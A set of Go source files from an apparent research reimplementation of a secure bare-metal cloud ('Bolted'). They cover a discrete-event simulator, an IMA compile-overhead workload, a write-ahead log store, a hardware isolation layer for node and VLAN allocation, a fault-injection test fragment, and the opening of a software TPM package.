	// Heal and hold the outage window open past the cooldown: the guard
	// must resume (half-open admits probes) and the next registrar call
	// closes the breaker. "Unknown uuid" from the real registrar is an
	// application-level response — proof of liveness — so the probe
	// still closes the breaker.
	inj.Set("registrar", fault.Profile{})
	waitFor("the guard to resume", func() bool { return !g.Status().Paused && !mgr.Health().BackendOpen(core.BackendRegistrar) })
	_, _ = cloud.Registrar.AIK("probe-uuid")
	if mgr.Health().Degraded {
		t.Fatal("cloud still degraded after registrar recovered")
	}

	// The outage caused no revocations and both members stay allocated.
	if got := g.Status().Revocations; got != 0 {
		t.Fatalf("guard issued %d revocations during a provider outage", got)
	}
	for node, st := range e.NodeStates() {
		if st != core.StateAllocated && st != core.StateFree {
			t.Fatalf("node %s state = %s after outage", node, st)
		}
	}
	var paused, resumed int
	for _, ev := range e.Journal().Events() {
		if ev.Kind == core.EvGuardPaused {
			if strings.Contains(ev.Detail, "resumed") {
				resumed++
			} else {
				paused++
			}
		}
	}
	if paused != 1 || resumed != 1 {
		t.Fatalf("journal pause/resume transitions = %d/%d, want exactly one each", paused, resumed)
	}
}
