// Package sim provides a deterministic discrete-event simulator used to
// model datacenter-scale timing (server POST, network transfers, storage
// service times) without real hardware.
//
// The simulator supports two styles of use:
//
//   - Callback events scheduled with At or After.
//   - Goroutine-backed processes started with Go, which may Sleep, and
//     Acquire/Release capacity-limited Resources. Exactly one process (or
//     callback) runs at a time, so process code needs no locking of
//     simulator state.
//
// Time is represented with time.Duration offsets from the simulation
// epoch. Runs are fully deterministic: events at equal times fire in
// schedule order.
package sim

import (
	"container/heap"
	"fmt"
	"math/rand"
	"time"
)

// Sim is a discrete-event simulation instance. The zero value is not
// usable; call New.
type Sim struct {
	now    time.Duration
	queue  eventHeap
	seq    int64
	yield  chan struct{}
	rng    *rand.Rand
	nlive  int // live (started, unfinished) processes
	inProc bool
}

// New returns an empty simulation whose clock starts at zero. The seed
// feeds the simulation-local random source exposed by Rand.
func New(seed int64) *Sim {
	return &Sim{
		yield: make(chan struct{}),
		rng:   rand.New(rand.NewSource(seed)),
	}
}

// Now returns the current simulated time.
func (s *Sim) Now() time.Duration { return s.now }

// Rand returns the simulation's deterministic random source.
func (s *Sim) Rand() *rand.Rand { return s.rng }

type event struct {
	at   time.Duration
	seq  int64
	fn   func()
	proc *Proc
}

type eventHeap []*event

func (h eventHeap) Len() int { return len(h) }
func (h eventHeap) Less(i, j int) bool {
	if h[i].at != h[j].at {
		return h[i].at < h[j].at
	}
	return h[i].seq < h[j].seq
}
func (h eventHeap) Swap(i, j int)       { h[i], h[j] = h[j], h[i] }
func (h *eventHeap) Push(x interface{}) { *h = append(*h, x.(*event)) }
func (h *eventHeap) Pop() interface{} {
	old := *h
	n := len(old)
	ev := old[n-1]
	old[n-1] = nil
	*h = old[:n-1]
	return ev
}

func (s *Sim) schedule(ev *event) {
	ev.seq = s.seq
	s.seq++
	heap.Push(&s.queue, ev)
}

// At schedules fn to run at absolute simulated time t. Scheduling in the
// past panics: it would silently reorder causality.
func (s *Sim) At(t time.Duration, fn func()) {
	if t < s.now {
		panic(fmt.Sprintf("sim: At(%v) is before now (%v)", t, s.now))
	}
	s.schedule(&event{at: t, fn: fn})
}

// After schedules fn to run d after the current simulated time.
func (s *Sim) After(d time.Duration, fn func()) {
	if d < 0 {
		panic("sim: negative delay")
	}
	s.At(s.now+d, fn)
}

// Proc is a goroutine-backed simulation process. Its methods must only be
// called from within the process function itself.
type Proc struct {
	sim    *Sim
	name   string
	resume chan struct{}
	done   bool
}

// Name returns the name the process was started with.
func (p *Proc) Name() string { return p.name }

// Sim returns the simulation the process belongs to.
func (p *Proc) Sim() *Sim { return p.sim }

// Now returns the current simulated time.
func (p *Proc) Now() time.Duration { return p.sim.now }

// Go starts a new process executing fn. The process begins at the current
// simulated time, after any already-queued events for that instant.
func (s *Sim) Go(name string, fn func(p *Proc)) *Proc {
	p := &Proc{sim: s, name: name, resume: make(chan struct{})}
	s.nlive++
	go func() {
		<-p.resume
		fn(p)
		p.done = true
		s.nlive--
		s.yield <- struct{}{}
	}()
	s.schedule(&event{at: s.now, proc: p})
	return p
}

// Sleep suspends the process for simulated duration d.
func (p *Proc) Sleep(d time.Duration) {
	if d < 0 {
		panic("sim: negative sleep")
	}
	s := p.sim
	s.schedule(&event{at: s.now + d, proc: p})
	p.yield()
}

// yield hands control back to the scheduler and blocks until resumed.
func (p *Proc) yield() {
	p.sim.yield <- struct{}{}
	<-p.resume
}

// park blocks the process without scheduling a wake-up; something else
// (a resource release, a channel send) must wake it via wake.
func (p *Proc) park() { p.yield() }

// wake schedules the process to resume at the current simulated time.
func (p *Proc) wake() {
	s := p.sim
	s.schedule(&event{at: s.now, proc: p})
}

// Run executes events until the queue is empty. It returns the final
// simulated time. If processes remain blocked on resources when the queue
// drains, Run panics, because the simulation deadlocked.
func (s *Sim) Run() time.Duration {
	for len(s.queue) > 0 {
		ev := heap.Pop(&s.queue).(*event)
		if ev.at < s.now {
			panic("sim: time went backwards")
		}
		s.now = ev.at
		if ev.fn != nil {
			s.inProc = true
			ev.fn()
			s.inProc = false
			continue
		}
		ev.proc.resume <- struct{}{}
		<-s.yield
	}
	if s.nlive > 0 {
		panic(fmt.Sprintf("sim: deadlock: %d process(es) still blocked at %v", s.nlive, s.now))
	}
	return s.now
}

// Resource is a capacity-limited FIFO resource (e.g. an OSD queue, the
// single Bolted airlock). Create with NewResource.
type Resource struct {
	sim     *Sim
	name    string
	cap     int
	inUse   int
	waiters []*Proc
}

// NewResource returns a resource with the given concurrent capacity.
func (s *Sim) NewResource(name string, capacity int) *Resource {
	if capacity <= 0 {
		panic("sim: resource capacity must be positive")
	}
	return &Resource{sim: s, name: name, cap: capacity}
}

// Acquire blocks the process until a unit of the resource is available.
// Waiters are served in FIFO order.
func (p *Proc) Acquire(r *Resource) {
	if r.inUse < r.cap && len(r.waiters) == 0 {
		r.inUse++
		return
	}
	r.waiters = append(r.waiters, p)
	p.park()
}

// Release returns one unit of the resource, waking the longest-waiting
// process if any.
func (r *Resource) Release() {
	if len(r.waiters) > 0 {
		w := r.waiters[0]
		copy(r.waiters, r.waiters[1:])
		r.waiters = r.waiters[:len(r.waiters)-1]
		w.wake()
		return
	}
	if r.inUse == 0 {
		panic("sim: Release of idle resource " + r.name)
	}
	r.inUse--
}

// InUse reports the number of units currently held.
func (r *Resource) InUse() int { return r.inUse }

// Queued reports the number of processes waiting for the resource.
func (r *Resource) Queued() int { return len(r.waiters) }

// Use runs fn while holding one unit of the resource.
func (p *Proc) Use(r *Resource, fn func()) {
	p.Acquire(r)
	defer r.Release()
	fn()
}

// Gate is a broadcast synchronization point: processes Wait until some
// event Opens the gate, after which all current and future waiters pass
// immediately.
type Gate struct {
	open    bool
	waiters []*Proc
}

// NewGate returns a closed gate.
func (s *Sim) NewGate() *Gate { return &Gate{} }

// Wait blocks the process until the gate is open.
func (p *Proc) Wait(g *Gate) {
	if g.open {
		return
	}
	g.waiters = append(g.waiters, p)
	p.park()
}

// Open opens the gate, waking all waiters at the current simulated time.
func (g *Gate) Open() {
	if g.open {
		return
	}
	g.open = true
	for _, w := range g.waiters {
		w.wake()
	}
	g.waiters = nil
}

// Opened reports whether the gate has been opened.
func (g *Gate) Opened() bool { return g.open }

// WaitGroup is a fork/join primitive: a parent process WaitFors child
// processes that call Done.
type WaitGroup struct {
	n       int
	waiters []*Proc
}

// NewWaitGroup returns a WaitGroup expecting n Done calls.
func (s *Sim) NewWaitGroup(n int) *WaitGroup {
	if n < 0 {
		panic("sim: negative WaitGroup count")
	}
	return &WaitGroup{n: n}
}

// Add increases the expected Done count.
func (w *WaitGroup) Add(n int) { w.n += n }

// Done signals completion of one unit, waking waiters when the count
// reaches zero.
func (w *WaitGroup) Done() {
	if w.n == 0 {
		panic("sim: WaitGroup Done below zero")
	}
	w.n--
	if w.n == 0 {
		for _, p := range w.waiters {
			p.wake()
		}
		w.waiters = nil
	}
}

// WaitFor blocks the process until the group's count reaches zero.
func (p *Proc) WaitFor(w *WaitGroup) {
	if w.n == 0 {
		return
	}
	w.waiters = append(w.waiters, p)
	p.park()
}
