package workload

import (
	"crypto/sha256"
	"encoding/binary"
	"fmt"
	"math/rand"
	"sync"
	"time"

	"bolted/internal/ima"
)

// This file is the Figure-6 experiment: Linux kernel compile time with
// and without IMA, across thread counts. Unlike the macro models it is
// a REAL workload: a synthetic source tree is generated, a worker pool
// "compiles" each translation unit (reads it, does CPU work over it,
// emits an object), and when IMA is enabled every file access is
// actually measured — real SHA-256 into a real software TPM, exactly
// the work the kernel's IMA performs. The paper's result (negligible
// overhead even under a stress policy) emerges because hashing a file
// once is small next to compiling it.

// CompileSpec configures a kernel-compile run.
type CompileSpec struct {
	// Files is the number of translation units (the 4.16 kernel builds
	// a few thousand objects for a defconfig).
	Files int
	// FileBytes is the average source file size.
	FileBytes int
	// Threads is the make -j parallelism.
	Threads int
	// IMA, when non-nil, measures every source read (run-as-root under
	// the paper's stress policy measures everything).
	IMA *ima.Collector
	// WorkFactor scales the per-file compile CPU work (hash rounds).
	WorkFactor int
}

// DefaultCompileSpec mirrors a scaled-down kernel build.
func DefaultCompileSpec(threads int, col *ima.Collector) CompileSpec {
	return CompileSpec{
		Files:      3000,
		FileBytes:  8 << 10,
		Threads:    threads,
		IMA:        col,
		WorkFactor: 40,
	}
}

// sourceTree generates the deterministic synthetic source files.
func sourceTree(spec CompileSpec) [][]byte {
	rng := rand.New(rand.NewSource(416)) // kernel 4.16
	files := make([][]byte, spec.Files)
	for i := range files {
		f := make([]byte, spec.FileBytes)
		rng.Read(f)
		files[i] = f
	}
	return files
}

// compileUnit does the CPU work standing in for cc1: repeated hashing
// over the source (parse+optimize are similarly memory-bound passes).
func compileUnit(src []byte, rounds int) [32]byte {
	var digest [32]byte
	h := sha256.New()
	for r := 0; r < rounds; r++ {
		h.Reset()
		var seed [8]byte
		binary.BigEndian.PutUint64(seed[:], uint64(r))
		h.Write(seed[:])
		h.Write(src)
		h.Write(digest[:])
		h.Sum(digest[:0])
	}
	return digest
}

// CompileResult reports a run.
type CompileResult struct {
	Wall     time.Duration
	Files    int
	Measured int // IMA measurements actually taken
}

// RunKernelCompile executes the build and returns its wall time.
func RunKernelCompile(spec CompileSpec) CompileResult {
	if spec.Threads < 1 {
		spec.Threads = 1
	}
	if spec.WorkFactor < 1 {
		spec.WorkFactor = 1
	}
	files := sourceTree(spec)
	var measured int64
	var mu sync.Mutex

	start := time.Now()
	work := make(chan int)
	var wg sync.WaitGroup
	for w := 0; w < spec.Threads; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			local := 0
			for i := range work {
				path := fmt.Sprintf("/usr/src/linux/kernel/file%04d.c", i)
				if spec.IMA != nil {
					// The build runs as root under the stress policy:
					// every source read is measured.
					if spec.IMA.Measure(path, files[i], ima.HookRead, 0) {
						local++
					}
				}
				compileUnit(files[i], spec.WorkFactor)
			}
			mu.Lock()
			measured += int64(local)
			mu.Unlock()
		}()
	}
	for i := range files {
		work <- i
	}
	close(work)
	wg.Wait()

	return CompileResult{
		Wall:     time.Since(start),
		Files:    len(files),
		Measured: int(measured),
	}
}
