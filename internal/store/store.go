// Package store is the durable control-plane log behind core.Manager.
//
// The store holds two things: an optional compacting snapshot of the full
// control-plane state and an append-only sequence of typed records (the
// write-ahead log). Every control-plane mutation — enclave create/delete,
// quota and pool-policy changes, guard policy changes, operation begin/end,
// and every lifecycle journal event — is appended and made durable before the
// mutation is acknowledged to a client. Recovery loads the snapshot, replays
// the log on top, and re-establishes node trust by fresh attestation quotes
// rather than by believing recorded state (the paper's §5/§7.4 recovery
// primitive).
//
// The store is deliberately ignorant of core's types: record payloads and the
// snapshot state are opaque JSON blobs marshaled by the caller. That keeps
// store free of an import cycle with core and makes the on-disk format
// self-describing.
package store

import (
	"encoding/json"
	"sync"
	"time"
)

// Kind tags a Record with the control-plane mutation it carries.
type Kind string

const (
	KindEnclaveCreated Kind = "enclave-created"
	KindEnclaveDeleted Kind = "enclave-deleted"
	KindJournalEvent   Kind = "journal-event"
	KindQuotaSet       Kind = "quota-set"
	KindQuotaDeleted   Kind = "quota-deleted"
	KindPoolConfigured Kind = "pool-configured"
	KindPoolDetached   Kind = "pool-detached"
	KindGuardEnabled   Kind = "guard-enabled"
	KindGuardDetached  Kind = "guard-detached"
	KindOpStarted      Kind = "op-started"
	KindOpFinished     Kind = "op-finished"
	KindIncidentUpdate Kind = "incident-update"
	KindRevocation     Kind = "revocation"
)

// Record is one framed WAL entry.
type Record struct {
	Kind Kind            `json:"kind"`
	At   time.Time       `json:"at"`
	Data json.RawMessage `json:"data,omitempty"`
}

// Snapshot is a compacted image of the full control-plane state at a point in
// time. Records appended after the snapshot was taken are replayed on top.
type Snapshot struct {
	Taken time.Time       `json:"taken"`
	State json.RawMessage `json:"state"`
}

// Store is the narrow durability interface Manager commits through.
//
// Append must not return until the record is durable (for File, fsync'd);
// a nil return is the commit point after which the mutation may be
// acknowledged. AppendBuffered stages a record in the log — ordering
// against other appends is preserved, but the commit point is deferred to
// the next Append, Sync, or Compact; it exists for high-rate journal
// events whose acknowledgment boundary (an operation result, a feed read)
// carries one flush for many records. Compact atomically replaces the
// snapshot and truncates the log; Load returns the current snapshot (nil
// if none) and the records appended since it was taken, in append order.
type Store interface {
	Load() (*Snapshot, []Record, error)
	Append(rec Record) error
	AppendBuffered(rec Record) error
	Sync() error
	Compact(snap *Snapshot) error
	Close() error
}

// Memory is an in-process Store. It gives the same commit ordering semantics
// as File without touching disk — useful for tests and as the baseline in the
// WAL-overhead benchmarks.
type Memory struct {
	mu     sync.Mutex
	snap   *Snapshot
	recs   []Record
	closed bool
}

// NewMemory returns an empty in-memory store.
func NewMemory() *Memory { return &Memory{} }

func (m *Memory) Load() (*Snapshot, []Record, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.closed {
		return nil, nil, ErrClosed
	}
	recs := make([]Record, len(m.recs))
	copy(recs, m.recs)
	if m.snap == nil {
		return nil, recs, nil
	}
	snap := *m.snap
	return &snap, recs, nil
}

func (m *Memory) Append(rec Record) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.closed {
		return ErrClosed
	}
	// Deep-copy the payload so callers can't mutate committed state.
	rec.Data = append(json.RawMessage(nil), rec.Data...)
	m.recs = append(m.recs, rec)
	return nil
}

// AppendBuffered is Append: memory is always "durable".
func (m *Memory) AppendBuffered(rec Record) error { return m.Append(rec) }

func (m *Memory) Sync() error {
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.closed {
		return ErrClosed
	}
	return nil
}

func (m *Memory) Compact(snap *Snapshot) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.closed {
		return ErrClosed
	}
	cp := *snap
	cp.State = append(json.RawMessage(nil), snap.State...)
	m.snap = &cp
	m.recs = nil
	return nil
}

func (m *Memory) Close() error {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.closed = true
	return nil
}

// Discard is a Store that accepts and forgets everything. A Manager built
// without durability runs against Discard so the persistence hooks stay
// unconditional.
type Discard struct{}

func (Discard) Load() (*Snapshot, []Record, error) { return nil, nil, nil }
func (Discard) Append(Record) error                { return nil }
func (Discard) AppendBuffered(Record) error        { return nil }
func (Discard) Sync() error                        { return nil }
func (Discard) Compact(*Snapshot) error            { return nil }
func (Discard) Close() error                       { return nil }
