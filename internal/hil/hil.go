// Package hil implements the Hardware Isolation Layer, the only Bolted
// component that must be deployed by the provider and the only shared
// service in the TCB (§5). Mirroring the real HIL's deliberately small
// surface, it provides exactly three kinds of operation:
//
//  1. Allocation of physical servers (node reservation into projects).
//  2. Allocation of networks (VLANs from the provider pool).
//  3. Connecting servers to networks (switch programming).
//
// Plus a minimal BMC proxy (power operations) that keeps tenants away
// from the BMC itself, and per-node metadata that acts as the provider's
// source of truth: the TPM endorsement key binding (anti-spoofing) and
// the platform PCR whitelist for the retained vendor firmware stages.
package hil

import (
	"context"
	"errors"
	"fmt"
	"sort"
	"sync"

	"bolted/internal/netsim"
)

// BMC is the out-of-band controller interface HIL proxies. It is
// satisfied by *firmware.Machine.
type BMC interface {
	PowerOn() error
	PowerOff() error
	PowerCycle() error
}

// Common errors.
var (
	ErrNotFound     = errors.New("hil: not found")
	ErrUnauthorized = errors.New("hil: node not owned by project")
	ErrInUse        = errors.New("hil: resource in use")
)

// ctxErr reports a caller-side cancellation before any switch or BMC
// state is touched: a cancelled batch must not half-program the fabric.
func ctxErr(ctx context.Context) error {
	if err := ctx.Err(); err != nil {
		return fmt.Errorf("hil: %w", err)
	}
	return nil
}

// Node is HIL's view of a physical server.
type Node struct {
	Name     string
	Port     string
	Metadata map[string]string // provider-published facts (TPM EK, PCR whitelist)

	bmc      BMC
	project  string // "" = free pool
	networks map[string]netsim.VLANID
}

// Project is a tenant allocation context.
type Project struct {
	Name     string
	networks map[string]netsim.VLANID
	nodes    map[string]bool
}

// Service is the HIL API surface. Safe for concurrent use.
type Service struct {
	fabric *netsim.Fabric

	mu       sync.Mutex
	nodes    map[string]*Node
	projects map[string]*Project
	public   map[string]netsim.VLANID // provider-wide public networks
}

// New creates a HIL service controlling the given switch fabric.
func New(fabric *netsim.Fabric) *Service {
	return &Service{
		fabric:   fabric,
		nodes:    make(map[string]*Node),
		projects: make(map[string]*Project),
		public:   make(map[string]netsim.VLANID),
	}
}

// --- administrator operations ---

// RegisterNode adds a server to the free pool (admin operation). The
// port must already exist on the fabric.
func (s *Service) RegisterNode(name, port string, bmc BMC, metadata map[string]string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if _, ok := s.nodes[name]; ok {
		return fmt.Errorf("hil: node %q already registered", name)
	}
	md := make(map[string]string, len(metadata))
	for k, v := range metadata {
		md[k] = v
	}
	s.nodes[name] = &Node{
		Name:     name,
		Port:     port,
		Metadata: md,
		bmc:      bmc,
		networks: make(map[string]netsim.VLANID),
	}
	return nil
}

// SetNodeMetadata publishes (or updates) a provider fact about a node,
// e.g. its TPM EK public key or platform PCR whitelist entries.
func (s *Service) SetNodeMetadata(node, key, value string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	n, ok := s.nodes[node]
	if !ok {
		return fmt.Errorf("%w: node %q", ErrNotFound, node)
	}
	n.Metadata[key] = value
	return nil
}

// CreatePublicNetwork creates a provider-wide network any project may
// connect to (e.g. the attestation or provisioning service networks).
// With isolated=true the VLAN is private: member nodes reach the
// service ports but never each other, which is what keeps tenants (and
// concurrently airlocked nodes) mutually invisible on shared service
// networks.
func (s *Service) CreatePublicNetwork(name string, isolated bool) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if _, ok := s.public[name]; ok {
		return fmt.Errorf("hil: public network %q exists", name)
	}
	v, err := s.fabric.AllocateVLAN("public:" + name)
	if err != nil {
		return err
	}
	if err := s.fabric.SetVLANIsolated(v, isolated); err != nil {
		return err
	}
	s.public[name] = v
	return nil
}

// ConnectServicePort attaches an infrastructure service's switch port
// (e.g. the BMI or Keylime host) to a public network as a promiscuous
// member: services talk to every node; nodes talk only to services.
func (s *Service) ConnectServicePort(port, publicNet string) error {
	s.mu.Lock()
	v, ok := s.public[publicNet]
	s.mu.Unlock()
	if !ok {
		return fmt.Errorf("%w: public network %q", ErrNotFound, publicNet)
	}
	return s.fabric.AttachPromiscuous(port, v)
}

// --- tenant operations ---

// CreateProject registers a tenant project.
func (s *Service) CreateProject(name string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if _, ok := s.projects[name]; ok {
		return fmt.Errorf("hil: project %q exists", name)
	}
	s.projects[name] = &Project{
		Name:     name,
		networks: make(map[string]netsim.VLANID),
		nodes:    make(map[string]bool),
	}
	return nil
}

// DeleteProject removes an empty project.
func (s *Service) DeleteProject(name string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	p, ok := s.projects[name]
	if !ok {
		return fmt.Errorf("%w: project %q", ErrNotFound, name)
	}
	if len(p.nodes) > 0 || len(p.networks) > 0 {
		return fmt.Errorf("%w: project %q has nodes or networks", ErrInUse, name)
	}
	delete(s.projects, name)
	return nil
}

// FreeNodes lists unallocated nodes, sorted. The error return exists
// for remote implementations of the same surface; the in-process
// service never fails.
func (s *Service) FreeNodes() ([]string, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	var out []string
	for name, n := range s.nodes {
		if n.project == "" {
			out = append(out, name)
		}
	}
	sort.Strings(out)
	return out, nil
}

// AllocateNode reserves a specific free node into a project.
func (s *Service) AllocateNode(ctx context.Context, project, node string) error {
	if err := ctxErr(ctx); err != nil {
		return err
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	p, ok := s.projects[project]
	if !ok {
		return fmt.Errorf("%w: project %q", ErrNotFound, project)
	}
	n, ok := s.nodes[node]
	if !ok {
		return fmt.Errorf("%w: node %q", ErrNotFound, node)
	}
	if n.project != "" {
		return fmt.Errorf("%w: node %q owned by %q", ErrInUse, node, n.project)
	}
	n.project = project
	p.nodes[node] = true
	return nil
}

// AllocateAnyNode reserves an arbitrary free node and returns its name.
// Scan and claim happen under one lock hold: concurrent allocators must
// never pick the same node and fail each other spuriously.
func (s *Service) AllocateAnyNode(ctx context.Context, project string) (string, error) {
	if err := ctxErr(ctx); err != nil {
		return "", err
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	p, ok := s.projects[project]
	if !ok {
		return "", fmt.Errorf("%w: project %q", ErrNotFound, project)
	}
	var free []string
	for name, n := range s.nodes {
		if n.project == "" {
			free = append(free, name)
		}
	}
	if len(free) == 0 {
		return "", fmt.Errorf("%w: no free nodes", ErrNotFound)
	}
	sort.Strings(free)
	s.nodes[free[0]].project = project
	p.nodes[free[0]] = true
	return free[0], nil
}

// TransferNode atomically moves an owned node from one project to
// another without passing through the free pool — the quarantine path:
// a node being rejected must never be allocatable in between. Like
// FreeNode, the node leaves every network and is powered off.
func (s *Service) TransferNode(ctx context.Context, from, node, to string) error {
	if err := ctxErr(ctx); err != nil {
		return err
	}
	s.mu.Lock()
	n, p, err := s.ownedLocked(from, node)
	if err != nil {
		s.mu.Unlock()
		return err
	}
	tp, ok := s.projects[to]
	if !ok {
		s.mu.Unlock()
		return fmt.Errorf("%w: project %q", ErrNotFound, to)
	}
	delete(p.nodes, node)
	tp.nodes[node] = true
	n.project = to
	n.networks = make(map[string]netsim.VLANID)
	bmc := n.bmc
	port := n.Port
	s.mu.Unlock()

	if err := s.fabric.DetachAll(port); err != nil {
		return err
	}
	if bmc != nil {
		_ = bmc.PowerOff() // already-off is fine
	}
	return nil
}

// FreeNode returns a node to the free pool: it is detached from every
// network and powered off, so no tenant state keeps running.
func (s *Service) FreeNode(ctx context.Context, project, node string) error {
	if err := ctxErr(ctx); err != nil {
		return err
	}
	s.mu.Lock()
	n, p, err := s.ownedLocked(project, node)
	if err != nil {
		s.mu.Unlock()
		return err
	}
	n.project = ""
	n.networks = make(map[string]netsim.VLANID)
	delete(p.nodes, node)
	bmc := n.bmc
	port := n.Port
	s.mu.Unlock()

	if err := s.fabric.DetachAll(port); err != nil {
		return err
	}
	if bmc != nil {
		_ = bmc.PowerOff() // already-off is fine
	}
	return nil
}

func (s *Service) ownedLocked(project, node string) (*Node, *Project, error) {
	p, ok := s.projects[project]
	if !ok {
		return nil, nil, fmt.Errorf("%w: project %q", ErrNotFound, project)
	}
	n, ok := s.nodes[node]
	if !ok {
		return nil, nil, fmt.Errorf("%w: node %q", ErrNotFound, node)
	}
	if n.project != project {
		return nil, nil, fmt.Errorf("%w: %q is not in %q", ErrUnauthorized, node, project)
	}
	return n, p, nil
}

// CreateNetwork allocates a tenant-private network (VLAN).
func (s *Service) CreateNetwork(ctx context.Context, project, name string) error {
	if err := ctxErr(ctx); err != nil {
		return err
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	p, ok := s.projects[project]
	if !ok {
		return fmt.Errorf("%w: project %q", ErrNotFound, project)
	}
	if _, ok := p.networks[name]; ok {
		// Idempotent: a duplicate create keeps the existing network (and
		// its VLAN). Callers retrying after a torn response — the create
		// landed but its acknowledgement was lost — must converge, not
		// fail.
		return nil
	}
	v, err := s.fabric.AllocateVLAN(project + ":" + name)
	if err != nil {
		return err
	}
	p.networks[name] = v
	return nil
}

// DeleteNetwork frees a tenant network; all nodes must be detached.
func (s *Service) DeleteNetwork(ctx context.Context, project, name string) error {
	if err := ctxErr(ctx); err != nil {
		return err
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	p, ok := s.projects[project]
	if !ok {
		return fmt.Errorf("%w: project %q", ErrNotFound, project)
	}
	v, ok := p.networks[name]
	if !ok {
		return fmt.Errorf("%w: network %q", ErrNotFound, name)
	}
	if err := s.fabric.FreeVLAN(v); err != nil {
		return fmt.Errorf("%w: %v", ErrInUse, err)
	}
	delete(p.networks, name)
	return nil
}

// resolveNetLocked maps a network name to a VLAN: tenant networks first,
// then provider public networks.
func (s *Service) resolveNetLocked(p *Project, name string) (netsim.VLANID, error) {
	if v, ok := p.networks[name]; ok {
		return v, nil
	}
	if v, ok := s.public[name]; ok {
		return v, nil
	}
	return 0, fmt.Errorf("%w: network %q", ErrNotFound, name)
}

// ConnectNode attaches an owned node to a network (tenant or public).
func (s *Service) ConnectNode(ctx context.Context, project, node, network string) error {
	if err := ctxErr(ctx); err != nil {
		return err
	}
	s.mu.Lock()
	n, p, err := s.ownedLocked(project, node)
	if err != nil {
		s.mu.Unlock()
		return err
	}
	v, err := s.resolveNetLocked(p, network)
	if err != nil {
		s.mu.Unlock()
		return err
	}
	n.networks[network] = v
	port := n.Port
	s.mu.Unlock()
	return s.fabric.Attach(port, v)
}

// DetachNode removes an owned node from a network.
func (s *Service) DetachNode(ctx context.Context, project, node, network string) error {
	if err := ctxErr(ctx); err != nil {
		return err
	}
	s.mu.Lock()
	n, _, err := s.ownedLocked(project, node)
	if err != nil {
		s.mu.Unlock()
		return err
	}
	v, ok := n.networks[network]
	if !ok {
		s.mu.Unlock()
		return fmt.Errorf("%w: node %q not on %q", ErrNotFound, node, network)
	}
	delete(n.networks, network)
	port := n.Port
	s.mu.Unlock()
	return s.fabric.Detach(port, v)
}

// --- BMC proxy (authorization-checked) ---

func (s *Service) nodeBMC(project, node string) (BMC, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	n, _, err := s.ownedLocked(project, node)
	if err != nil {
		return nil, err
	}
	if n.bmc == nil {
		return nil, fmt.Errorf("%w: node %q has no BMC", ErrNotFound, node)
	}
	return n.bmc, nil
}

// PowerOn powers on an owned node via its BMC.
func (s *Service) PowerOn(ctx context.Context, project, node string) error {
	if err := ctxErr(ctx); err != nil {
		return err
	}
	b, err := s.nodeBMC(project, node)
	if err != nil {
		return err
	}
	return b.PowerOn()
}

// PowerOff powers off an owned node via its BMC.
func (s *Service) PowerOff(ctx context.Context, project, node string) error {
	if err := ctxErr(ctx); err != nil {
		return err
	}
	b, err := s.nodeBMC(project, node)
	if err != nil {
		return err
	}
	return b.PowerOff()
}

// PowerCycle power-cycles an owned node via its BMC.
func (s *Service) PowerCycle(ctx context.Context, project, node string) error {
	if err := ctxErr(ctx); err != nil {
		return err
	}
	b, err := s.nodeBMC(project, node)
	if err != nil {
		return err
	}
	return b.PowerCycle()
}

// --- queries ---

// NodeMetadata returns a copy of a node's provider-published metadata.
// Readable by anyone: the EK binding and platform whitelist are public.
func (s *Service) NodeMetadata(node string) (map[string]string, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	n, ok := s.nodes[node]
	if !ok {
		return nil, fmt.Errorf("%w: node %q", ErrNotFound, node)
	}
	out := make(map[string]string, len(n.Metadata))
	for k, v := range n.Metadata {
		out[k] = v
	}
	return out, nil
}

// NodeOwner reports which project owns a node ("" if free).
func (s *Service) NodeOwner(node string) (string, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	n, ok := s.nodes[node]
	if !ok {
		return "", fmt.Errorf("%w: node %q", ErrNotFound, node)
	}
	return n.project, nil
}

// NodeNetworks lists the networks an owned node is attached to, sorted.
func (s *Service) NodeNetworks(project, node string) ([]string, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	n, _, err := s.ownedLocked(project, node)
	if err != nil {
		return nil, err
	}
	var out []string
	for name := range n.networks {
		out = append(out, name)
	}
	sort.Strings(out)
	return out, nil
}

// ProjectNodes lists a project's nodes, sorted.
func (s *Service) ProjectNodes(project string) ([]string, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	p, ok := s.projects[project]
	if !ok {
		return nil, fmt.Errorf("%w: project %q", ErrNotFound, project)
	}
	var out []string
	for n := range p.nodes {
		out = append(out, n)
	}
	sort.Strings(out)
	return out, nil
}

// NodePort returns a node's switch port name.
func (s *Service) NodePort(node string) (string, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	n, ok := s.nodes[node]
	if !ok {
		return "", fmt.Errorf("%w: node %q", ErrNotFound, node)
	}
	return n.Port, nil
}
