// Package tpm implements a software Trusted Platform Module sufficient
// for Bolted's measured-boot and remote-attestation flows. It substitutes
// for the hardware TPM (or IBM swtpm) used in the paper: SHA-256 PCR
// banks with extend semantics, an event log, quotes signed by an
// attestation identity key (AIK), an endorsement key (EK) identity, and
// TPM2-style credential activation for AIK enrolment.
//
// Keys are ECC (P-256): the EK is an ECDH key so a registrar can run
// MakeCredential/ActivateCredential against it, and the AIK is an ECDSA
// signing key, matching modern TPM 2.0 ECC endorsement hierarchies.
//
// The package is pure computation; the latency constants (measured from a
// Dell R630's hardware TPM in the paper's methodology) are consumed by
// the discrete-event simulation layer, mirroring how the paper emulated
// TPM latency on its TPM-less M620 blades.
package tpm

import (
	"crypto/ecdh"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
